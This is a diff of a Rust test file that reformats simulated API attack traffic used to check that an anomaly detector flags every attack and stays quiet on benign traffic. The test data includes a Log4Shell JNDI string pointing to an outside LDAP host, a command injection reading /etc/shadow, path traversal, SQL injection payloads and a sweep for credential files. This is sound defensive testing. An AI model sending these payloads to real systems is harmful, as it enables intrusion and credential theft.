@@ -39,7 +39,11 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         category: C::Api1Bola,
         calls: ids
             .iter()
-            .map(|id| Ex::new(ip, "GET", &format!("/api/orders/{id}")).bearer(&tok).json(&format!(r#"{{"id":{id},"status":"shipped"}}"#)))
+            .map(|id| {
+                Ex::new(ip, "GET", &format!("/api/orders/{id}"))
+                    .bearer(&tok)
+                    .json(&format!(r#"{{"id":{id},"status":"shipped"}}"#))
+            })
             .collect(),
     });
 
@@ -49,7 +53,12 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         kind: "bola.sequential_walk",
         category: C::Api1Bola,
         calls: (0..40u64)
-            .map(|i| Ex::new(ip, "GET", &format!("/api/orders/{}", 30_000_000 + i)).bearer(&tok).status(404).json(r#"{"error":"not found"}"#))
+            .map(|i| {
+                Ex::new(ip, "GET", &format!("/api/orders/{}", 30_000_000 + i))
+                    .bearer(&tok)
+                    .status(404)
+                    .json(r#"{"error":"not found"}"#)
+            })
             .collect(),
     });
 
@@ -61,7 +70,11 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         category: C::Api1Bola,
         calls: ids
             .iter()
-            .map(|id| Ex::new(ip, "GET", &format!("/api/orders/{id}")).bearer(&tok).json(&format!(r#"{{"id":{id},"status":"shipped"}}"#)))
+            .map(|id| {
+                Ex::new(ip, "GET", &format!("/api/orders/{id}"))
+                    .bearer(&tok)
+                    .json(&format!(r#"{{"id":{id},"status":"shipped"}}"#))
+            })
             .collect(),
     });
 
@@ -71,7 +84,11 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         name: "expired JWT accepted",
         kind: "auth.expired_jwt_accepted",
         category: C::Api2BrokenAuth,
-        calls: vec![Ex::new(ip, "GET", "/api/me").bearer(&expired).json(r#"{"name":"User"}"#)],
+        calls: vec![
+            Ex::new(ip, "GET", "/api/me")
+                .bearer(&expired)
+                .json(r#"{"name":"User"}"#),
+        ],
     });
 
     let (ip, _) = next();
@@ -80,7 +97,11 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         name: "alg:none JWT accepted",
         kind: "auth.unsigned_jwt_accepted",
         category: C::Api2BrokenAuth,
-        calls: vec![Ex::new(ip, "GET", "/api/me").bearer(&none).json(r#"{"name":"Admin"}"#)],
+        calls: vec![
+            Ex::new(ip, "GET", "/api/me")
+                .bearer(&none)
+                .json(r#"{"name":"Admin"}"#),
+        ],
     });
 
     let (ip, _) = next();
@@ -96,7 +117,14 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         name: "API key in the URL",
         kind: "auth.credential_in_url",
         category: C::Api2BrokenAuth,
-        calls: vec![Ex::new(ip, "GET", "/api/products/107?api_key=k3y-0f-th3-c4ll3r-2024xyz").json(r#"{"id":107}"#)],
+        calls: vec![
+            Ex::new(
+                ip,
+                "GET",
+                "/api/products/107?api_key=k3y-0f-th3-c4ll3r-2024xyz",
+            )
+            .json(r#"{"id":107}"#),
+        ],
     });
 
     let (ip, _) = next();
@@ -104,7 +132,11 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         name: "Basic auth over plaintext",
         kind: "auth.basic_plaintext",
         category: C::Api2BrokenAuth,
-        calls: vec![Ex::new(ip, "GET", "/api/products/114").header("authorization", &format!("Basic {}", b64("admin:hunter2"))).json(r#"{"id":114}"#)],
+        calls: vec![
+            Ex::new(ip, "GET", "/api/products/114")
+                .header("authorization", &format!("Basic {}", b64("admin:hunter2")))
+                .json(r#"{"id":114}"#),
+        ],
     });
 
     let (ip, tok) = next();
@@ -114,7 +146,11 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         name: "bulk export: thousands of records in one response",
         kind: "exposure.many_records",
         category: C::Api3PropertyAuth,
-        calls: vec![Ex::new(ip, "GET", "/api/orders?page=1&sort=date&limit=100000").bearer(&tok).big_json(&sample, (sample.len() * 10) as u64)],
+        calls: vec![
+            Ex::new(ip, "GET", "/api/orders?page=1&sort=date&limit=100000")
+                .bearer(&tok)
+                .big_json(&sample, (sample.len() * 10) as u64),
+        ],
     });
 
     let (ip, tok) = next();
@@ -123,7 +159,13 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         name: "one principal's data volume spiking",
         kind: "exposure.volume_spike",
         category: C::Api4ResourceConsumption,
-        calls: (0..40).map(|_| Ex::new(ip, "GET", "/api/orders?page=1&sort=date").bearer(&tok).big_json(&one, 1_500_000)).collect(),
+        calls: (0..40)
+            .map(|_| {
+                Ex::new(ip, "GET", "/api/orders?page=1&sort=date")
+                    .bearer(&tok)
+                    .big_json(&one, 1_500_000)
+            })
+            .collect(),
     });
 
     let (ip, tok) = next();
@@ -150,21 +192,54 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         kind: "scan.error_burst",
         category: C::Api8Misconfiguration,
         calls: (0..40u64)
-            .map(|i| Ex::new(ip, "GET", "/api/me").bearer(&format!("guess-{i}-aaaaaaaaaaaaaaaa")).status(401).json(r#"{"error":"unauthorized"}"#))
+            .map(|i| {
+                Ex::new(ip, "GET", "/api/me")
+                    .bearer(&format!("guess-{i}-aaaaaaaaaaaaaaaa"))
+                    .status(401)
+                    .json(r#"{"error":"unauthorized"}"#)
+            })
             .collect(),
     });
 
     let (ip, _) = next();
     let probes = [
-        "/.env", "/.git/config", "/wp-login.php", "/admin", "/phpmyadmin", "/server-status", "/actuator/env", "/config.json",
-        "/backup.zip", "/.aws/credentials", "/api/v1/admin", "/console", "/debug/pprof", "/swagger.json", "/api-docs", "/.DS_Store",
-        "/web.config", "/login.action", "/cgi-bin/test", "/manager/html", "/solr/admin", "/jenkins", "/graphql", "/.htaccess",
+        "/.env",
+        "/.git/config",
+        "/wp-login.php",
+        "/admin",
+        "/phpmyadmin",
+        "/server-status",
+        "/actuator/env",
+        "/config.json",
+        "/backup.zip",
+        "/.aws/credentials",
+        "/api/v1/admin",
+        "/console",
+        "/debug/pprof",
+        "/swagger.json",
+        "/api-docs",
+        "/.DS_Store",
+        "/web.config",
+        "/login.action",
+        "/cgi-bin/test",
+        "/manager/html",
+        "/solr/admin",
+        "/jenkins",
+        "/graphql",
+        "/.htaccess",
     ];
     out.push(Attack {
         name: "path sweep (404s)",
         kind: "scan.path_sweep",
         category: C::Api8Misconfiguration,
-        calls: probes.iter().map(|p| Ex::new(ip, "GET", p).status(404).text("text/html", "<h1>Not Found</h1>")).collect(),
+        calls: probes
+            .iter()
+            .map(|p| {
+                Ex::new(ip, "GET", p)
+                    .status(404)
+                    .text("text/html", "<h1>Not Found</h1>")
+            })
+            .collect(),
     });
 
     let (ip, tok) = next();
@@ -173,7 +248,13 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         kind: "scan.server_error_burst",
         category: C::Api8Misconfiguration,
         calls: (0..25u64)
-            .map(|i| Ex::new(ip, "POST", "/api/orders").bearer(&tok).req_json(&format!(r#"{{"product":{i},"qty":-99999999999}}"#)).status(500).json(r#"{"error":"internal"}"#))
+            .map(|i| {
+                Ex::new(ip, "POST", "/api/orders")
+                    .bearer(&tok)
+                    .req_json(&format!(r#"{{"product":{i},"qty":-99999999999}}"#))
+                    .status(500)
+                    .json(r#"{"error":"internal"}"#)
+            })
             .collect(),
     });
 
@@ -182,7 +263,13 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         name: "request-rate spike",
         kind: "abuse.rate_spike",
         category: C::Api4ResourceConsumption,
-        calls: (0..1300).map(|_| Ex::new(ip, "GET", "/api/me").bearer(&tok).json(r#"{"name":"User"}"#)).collect(),
+        calls: (0..1300)
+            .map(|_| {
+                Ex::new(ip, "GET", "/api/me")
+                    .bearer(&tok)
+                    .json(r#"{"name":"User"}"#)
+            })
+            .collect(),
     });
 
     let (ip, tok) = next();
@@ -201,7 +288,13 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         name: "request smuggling framing",
         kind: "http.smuggling_indicator",
         category: C::Api8Misconfiguration,
-        calls: vec![Ex::new(ip, "POST", "/api/orders").bearer(&tok).flag(ExchangeFlags::SMUGGLING).status(201).json(r#"{"id":1}"#)],
+        calls: vec![
+            Ex::new(ip, "POST", "/api/orders")
+                .bearer(&tok)
+                .flag(ExchangeFlags::SMUGGLING)
+                .status(201)
+                .json(r#"{"id":1}"#),
+        ],
     });
 
     let (ip, _) = next();
@@ -209,7 +302,11 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         name: "Log4Shell JNDI lookup in a header",
         kind: "exploit.jndi_lookup",
         category: C::Api8Misconfiguration,
-        calls: vec![Ex::new(ip, "GET", "/api/products/100").header("x-api-version", "${jndi:ldap://198.51.100.7:1389/a}").json(r#"{"id":100}"#)],
+        calls: vec![
+            Ex::new(ip, "GET", "/api/products/100")
+                .header("x-api-version", "${jndi:ldap://198.51.100.7:1389/a}")
+                .json(r#"{"id":100}"#),
+        ],
     });
 
     let (ip, tok) = next();
@@ -228,7 +325,11 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         name: "path traversal",
         kind: "exploit.path_traversal",
         category: C::Api8Misconfiguration,
-        calls: vec![Ex::new(ip, "GET", "/static/..%2f..%2f..%2fetc%2fpasswd").status(404).text("text/html", "nope")],
+        calls: vec![
+            Ex::new(ip, "GET", "/static/..%2f..%2f..%2fetc%2fpasswd")
+                .status(404)
+                .text("text/html", "nope"),
+        ],
     });
 
     let (ip, tok) = next();
@@ -236,7 +337,15 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         name: "shell injection in a parameter",
         kind: "exploit.command_injection",
         category: C::Api8Misconfiguration,
-        calls: vec![Ex::new(ip, "GET", "/api/products/100?ping=8.8.8.8;cat%20/etc/shadow").bearer(&tok).json(r#"{"id":100}"#)],
+        calls: vec![
+            Ex::new(
+                ip,
+                "GET",
+                "/api/products/100?ping=8.8.8.8;cat%20/etc/shadow",
+            )
+            .bearer(&tok)
+            .json(r#"{"id":100}"#),
+        ],
     });
 
     let (ip, _) = next();
@@ -244,7 +353,14 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         name: "SQL injection tautology",
         kind: "exploit.sql_injection",
         category: C::Api8Misconfiguration,
-        calls: vec![Ex::new(ip, "GET", "/api/products/100?name=x%27%20OR%20%271%27%3D%271").json(r#"[{"id":100},{"id":101}]"#)],
+        calls: vec![
+            Ex::new(
+                ip,
+                "GET",
+                "/api/products/100?name=x%27%20OR%20%271%27%3D%271",
+            )
+            .json(r#"[{"id":100},{"id":101}]"#),
+        ],
     });
 
     let (ip, _) = next();
@@ -252,7 +368,15 @@ fn attacks(sim: &mut Sim) -> Vec<Attack> {
         name: "SQL injection UNION SELECT",
         kind: "exploit.sql_injection",
         category: C::Api8Misconfiguration,
-        calls: vec![Ex::new(ip, "GET", "/api/products/100?id=1+UNION+SELECT+username,password+FROM+users--").status(500).text("text/plain", "error")],
+        calls: vec![
+            Ex::new(
+                ip,
+                "GET",
+                "/api/products/100?id=1+UNION+SELECT+username,password+FROM+users--",
+            )
+            .status(500)
+            .text("text/plain", "error"),
+        ],
     });
     out
 }
@@ -276,7 +400,10 @@ fn benign_is_silent_and_every_attack_is_caught() {
     );
     // A further stretch of benign traffic at attack-phase pace stays silent too.
     sim.benign(20_000, 10 * MS);
-    assert!(sim.drain().is_empty(), "benign traffic at a faster pace raised anomalies");
+    assert!(
+        sim.drain().is_empty(),
+        "benign traffic at a faster pace raised anomalies"
+    );
 
     let list = attacks(&mut sim);
     let mut failures = Vec::new();
@@ -310,7 +437,13 @@ fn benign_is_silent_and_every_attack_is_caught() {
     // Evidence never carries raw credentials or object ids.
     for an in &sim.found {
         let text = format!("{an:?}");
-        for secret in ["hunter2", "k3y-0f-th3", "AKIAIOSFODNN7EXAMPLE", "jane.doe", "signature-bytes"] {
+        for secret in [
+            "hunter2",
+            "k3y-0f-th3",
+            "AKIAIOSFODNN7EXAMPLE",
+            "jane.doe",
+            "signature-bytes",
+        ] {
             assert!(!text.contains(secret), "{} leaks {secret}: {text}", an.kind);
         }
     }
@@ -324,12 +457,27 @@ fn repeats_are_grouped_and_reemitted_at_most_once_per_interval() {
     let mut emitted = Vec::new();
     // 600 repeats over 10 simulated minutes, drained after each.
     for _ in 0..600 {
-        sim.feed(Ex::new([192, 168, 1, 1], "GET", "/api/me").bearer(&none).json("{}"), 1000 * MS);
-        emitted.extend(sim.drain().into_iter().filter(|a| a.kind == "auth.unsigned_jwt_accepted"));
+        sim.feed(
+            Ex::new([192, 168, 1, 1], "GET", "/api/me")
+                .bearer(&none)
+                .json("{}"),
+            1000 * MS,
+        );
+        emitted.extend(
+            sim.drain()
+                .into_iter()
+                .filter(|a| a.kind == "auth.unsigned_jwt_accepted"),
+        );
     }
-    assert!((10..=12).contains(&emitted.len()), "re-emitted {} times", emitted.len());
+    assert!(
+        (10..=12).contains(&emitted.len()),
+        "re-emitted {} times",
+        emitted.len()
+    );
     let last = emitted.last().expect("emitted");
-    assert!(last.count >= 500 && last.last_seen_ns > last.first_seen_ns, "{last:?}");
+    assert!(
+        last.count >= 500 && last.last_seen_ns > last.first_seen_ns,
+        "{last:?}"
+    );
     assert!(emitted.iter().all(|a| a.key == emitted[0].key));
 }
-
